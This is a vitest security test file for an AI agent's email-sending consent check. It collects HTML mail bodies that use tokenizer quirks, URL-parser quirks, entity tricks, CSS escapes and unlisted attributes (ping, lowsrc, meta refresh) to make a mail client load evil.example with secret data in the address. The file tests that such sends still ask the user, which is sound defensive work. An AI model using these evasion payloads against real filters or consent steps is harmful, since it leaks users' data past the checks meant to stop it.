/**
 * Attack: an HTML mail body to a recipient the user wrote, whose HTML makes the reader's mail
 * client load (or offer) an attacker's URL carrying data, without the consent step seeing it.
 *
 * docs/security.md promises that "every web address its HTML body links to or loads" is a
 * destination. Each test here asserts that SAFE behaviour: the send asks. A failing test is a
 * bypass of shared/integrations/gmail/html-links.ts (or the tokenizer/entity table it uses).
 *
 * The "held" cases at the end pass and are kept as regression tests.
 */
import { describe, expect, it } from 'vitest';
import { linksOfHtml } from '../../shared/integrations/gmail/html-links.ts';
import { sendEmailConsent } from '../../shared/integrations/gmail/send-email-consent.ts';
import { decideConsent } from '../../shared/tools/consent-decision.ts';

const user = 'Email ana@example.com a summary of my inbox, as a nice HTML mail linking to https://ana.example/.';

/** The consent decision for a send to the user-written address with `html` as the HTML body. */
function decisionFor(html: string) {
  const input = {
    to: ['ana@example.com'],
    cc: [],
    bcc: [],
    subject: 'Summary',
    body: 'See the HTML.',
    html_body: html,
  };
  return decideConsent(
    { name: 'gmail_send_email', sideEffects: true, consent: sendEmailConsent },
    input,
    'call_1',
    {
      policy: { defaultMode: 'auto', tools: {}, allowedDestinations: [] },
      grounding: { userTexts: [user], links: [] },
      approvedCallIds: new Set(),
    },
  );
}

/** Each body makes an HTML5 browser engine (the renderer of most mail clients) reach
 * evil.example with "SECRET" in the address; none was written by the user. */
const bypasses: [string, string][] = [
  // Comments as the HTML5 tokenizer ends them: `<!-->` and `<!--->` are whole (empty)
  // comments, and `--!>` ends a comment. The tokenizer only knows `-->`.
  ['abruptly closed comment <!-->', '<!--><img src="https://evil.example/t?d=SECRET"><!-- -->'],
  ['comment ended by --!>', '<!-- x --!><img src="https://evil.example/t?d=SECRET"> -->'],
  // Mail clients render with scripting off, where <noscript> content is markup.
  ['<noscript> content (scripting off)', '<noscript><img src="https://evil.example/t?d=SECRET"></noscript>'],
  // The WHATWG URL parser: special schemes accept backslashes, missing slashes, and
  // drop tab/newline anywhere and leading C0 controls.
  ['backslashes after the scheme', '<img src="https:\\\\evil.example/t?d=SECRET">'],
  ['no slashes after the scheme', '<img src="http:evil.example/t?d=SECRET">'],
  ['newline inside the scheme', '<img src="ht\ntps://evil.example/t?d=SECRET">'],
  ['entity-encoded tab inside the scheme', '<img src="ht&#9;tps://evil.example/t?d=SECRET">'],
  ['leading C0 control character', '<img src="&#1;https://evil.example/t?d=SECRET">'],
  // HTML5 named references the hand-written entity table does not know.
  ['&colon; for the colon', '<img src="https&colon;//evil.example/t?d=SECRET">'],
  ['&sol; for the slashes', '<img src="https:&sol;&sol;evil.example/t?d=SECRET">'],
  // CSS loads without url(…), or with url(…) spelled with escapes, or a <style> never closed.
  ['@import with a string', '<style>@import "https://evil.example/s.css?d=SECRET";</style>'],
  ['<style> without its end tag', '<style>body{background:url(https://evil.example/t?d=SECRET)}'],
  ['CSS escape inside url()', '<div style="background:url(https\\3a //evil.example/t?d=SECRET)">x</div>'],
  ['CSS escape in the url function name', '<div style="background:\\75rl(https://evil.example/t?d=SECRET)">x</div>'],
  [
    'image-set() with a string',
    `<div style="background-image:image-set('https://evil.example/t?d=SECRET' 1x)">x</div>`,
  ],
  // Attributes that are not in the list.
  ['<a ping> (a POST on click)', '<a href="https://ana.example/" ping="https://evil.example/p?d=SECRET">open</a>'],
  ['<img lowsrc>', '<img lowsrc="https://evil.example/t?d=SECRET">'],
  ['<meta http-equiv=refresh>', '<meta http-equiv="refresh" content="0;url=https://evil.example/r?d=SECRET">'],
];

describe('attack: HTML mail body links the consent step does not see', () => {
  for (const [name, html] of bypasses) {
    it(`asks before sending an HTML body that reaches evil.example via ${name}`, () => {
      const decision = decisionFor(html);
      expect(decision.kind).toBe('ask');
    });
  }
});

/** Forms html-links.ts handles: kept as regression tests (these pass). */
const held: [string, string][] = [
  ['uppercase tag and attribute', '<IMG SRC="https://evil.example/t?d=SECRET">'],
  ['spaces around =', '<a href =  "https://evil.example/t?d=SECRET">x</a>'],
  ['unquoted attribute', '<link rel=stylesheet href=https://evil.example/s.css?d=SECRET>'],
  ['<svg><image href>', '<svg><image href="https://evil.example/t?d=SECRET"/></svg>'],
  ['xlink:href', '<svg><image xlink:href="https://evil.example/t?d=SECRET"/></svg>'],
  ['<object data>', '<object data="https://evil.example/o?d=SECRET"></object>'],
  ['<base href>', '<base href="https://evil.example/"><img src="t?d=SECRET">'],
  ['protocol-relative', '<img src="//evil.example/t?d=SECRET">'],
  ['entity-encoded https:', '<img src="&#104;ttps&#58;//evil.example/t?d=SECRET">'],
  ['srcset second candidate', '<img srcset="https://ana.example/a 1x, https://evil.example/b?d=SECRET 2x">'],
  ['<source src>', '<video><source src="https://evil.example/v?d=SECRET"></video>'],
  ['url() in a closed <style>', '<style>p{background:URL( "https://evil.example/t?d=SECRET" )}</style>'],
  ['background attribute', '<table background="https://evil.example/t?d=SECRET"></table>'],
];

describe('held: HTML links the consent step does see', () => {
  for (const [name, html] of held) {
    it(`asks for ${name}`, () => {
      expect(linksOfHtml(html).some((url) => url.includes('evil.example'))).toBe(true);
      expect(decisionFor(html).kind).toBe('ask');
    });
  }

  it('runs a plain-text body that names a URL (content is not checked, by design)', () => {
    const input = {
      to: ['ana@example.com'],
      cc: [],
      bcc: [],
      subject: 'Summary',
      body: 'Click https://evil.example/t?d=SECRET',
    };
    const decision = decideConsent(
      { name: 'gmail_send_email', sideEffects: true, consent: sendEmailConsent },
      input,
      'call_1',
      {
        policy: { defaultMode: 'auto', tools: {}, allowedDestinations: [] },
        grounding: { userTexts: [user], links: [] },
        approvedCallIds: new Set(),
      },
    );
    expect(decision.kind).toBe('run');
  });
});
